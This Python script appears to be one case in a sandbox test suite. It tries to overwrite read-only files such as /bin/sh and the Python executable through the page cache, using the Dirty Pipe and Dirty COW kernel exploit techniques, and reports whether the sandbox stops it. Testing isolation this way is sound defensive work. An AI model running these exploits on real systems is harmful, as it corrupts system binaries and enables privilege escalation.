# S52: writes to a file that it may only read, by way of the page cache
# verdict: accepted
# uses: attempts.py
import mmap
import socket

attempt("AF_ALG", socket.socket, 38, socket.SOCK_SEQPACKET, errors=(errno.EPERM,))
for path in (__file__, os.path.realpath("/bin/sh"), os.__file__, os.path.realpath(sys.executable)):
    fd = os.open(path, os.O_RDONLY)
    before = os.pread(fd, 4096, 0)
    # CVE-2022-0847: the pages of a pipe that was full once take what is written after a splice.
    out, into = os.pipe()
    for _ in range(16):
        os.write(into, b"x" * 4096)
    for _ in range(16):
        os.read(out, 4096)
    os.splice(fd, into, 1, offset_src=0)
    os.write(into, b"poison")
    # CVE-2016-5195 and its kind: a private mapping, thrown away while it is written to.
    mapping = mmap.mmap(fd, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    with open("/proc/self/maps") as maps:
        address = next(int(line.split("-")[0], 16) for line in maps if line.rstrip().endswith(path))
    try:
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            for _ in range(200):
                mapping.madvise(mmap.MADV_DONTNEED)
                memory.seek(address)
                memory.write(b"poison")
    except OSError as error:
        say("refused", path, error)
    if os.pread(os.open(path, os.O_RDONLY), 4096, 0) != before:
        say("SUCCEEDED", path)
    for how in (os.O_WRONLY, os.O_RDWR):
        attempt(f"to open {path} by its descriptor", os.open, f"/proc/self/fd/{fd}", how)
print("done")
